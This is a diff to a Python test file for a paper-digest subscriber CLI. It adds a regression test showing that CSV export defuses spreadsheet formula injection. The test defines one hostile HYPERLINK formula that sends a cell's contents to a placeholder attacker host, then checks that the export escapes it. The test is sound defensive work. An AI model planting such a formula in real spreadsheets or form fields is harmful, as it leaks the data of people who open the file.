@@ -107,6 +107,9 @@ def test_update_help_says_lists_are_replaced(cli) -> None:
 # --- export and import ---------------------------------------------------------------------------
 
 
+FORMULA = '=HYPERLINK("https://evil.example/?"&A2,"x")'
+
+
 @pytest.mark.parametrize("fmt", ["csv", "json"])
 def test_export_then_import_into_an_empty_database_exports_the_same_bytes(cli, env, ready, tmp_path, fmt) -> None:
     assert cli("ingest", str(FIXTURES / "arxiv_cs_lg.rss")).code == 0
@@ -115,7 +118,8 @@ def test_export_then_import_into_an_empty_database_exports_the_same_bytes(cli, e
                "--exclude", "video", "--category", "cs.CV", "--category", "cs.LG", "--author", "Yann LeCun",
                "--describe", 'I make "image generators" faster,\nand cheaper. Grüße!', "--timezone", "Europe/Berlin",
                "--hour", "6", "--minute", "30", "--max-papers", "8", "--seed", seed, "--min-score", "2.5").code == 0
-    assert cli("subscribers", "add", "bob@example.org", "--frequency", "weekly", "--weekday", "fri", "--topic", "robots").code == 0
+    assert cli("subscribers", "add", "bob@example.org", "--frequency", "weekly", "--weekday", "fri", "--topic", "robots",
+               "--describe", FORMULA).code == 0
     assert cli("subscribers", "add", "cy@example.org", "--topic", "x^y^0.5").code == 0
     assert cli("subscribers", "pause", "cy@example.org").code == 0
     for email, status in (("gone@example.org", "unsubscribed"), ("asked@example.org", "pending")):
@@ -126,6 +130,8 @@ def test_export_then_import_into_an_empty_database_exports_the_same_bytes(cli, e
     exported = cli("subscribers", "export", "--format", fmt, "--out", str(first))
     assert exported.code == 0 and exported.out.strip() == f"exported 3 subscribers to {first}"
     assert cli("subscribers", "export", "--format", fmt).out == first.read_text(encoding="utf-8"), "stdout is the file"
+    if fmt == "csv":  # a spreadsheet opening the export must not run what a stranger typed into the sign-up form
+        assert "'" + FORMULA.replace('"', '""') in first.read_text(encoding="utf-8")
 
     env(database_url=f"sqlite:///{tmp_path / 'empty.db'}")
     assert cli("init").code == 0
@@ -142,7 +148,7 @@ def test_export_then_import_into_an_empty_database_exports_the_same_bytes(cli, e
                          "timezone": "Europe/Berlin", "send_hour": 6, "send_minute": 30, "max_papers": 8,
                          "seed_papers": [seed], "min_score": 2.5, "status": "active"}
     bob = show(cli, "bob@example.org")
-    assert bob == bob | {"frequency": "weekly", "send_weekday": 4, "topics": ["robots"]}
+    assert bob == bob | {"frequency": "weekly", "send_weekday": 4, "topics": ["robots"], "describe": FORMULA}
     assert show(cli, "cy@example.org")["status"] == "paused"
     listed = {s["email"] for s in json.loads(cli("subscribers", "list", "--json").out)}
     assert listed == {"ada@example.org", "bob@example.org", "cy@example.org"}, "pending and unsubscribed are not exported"
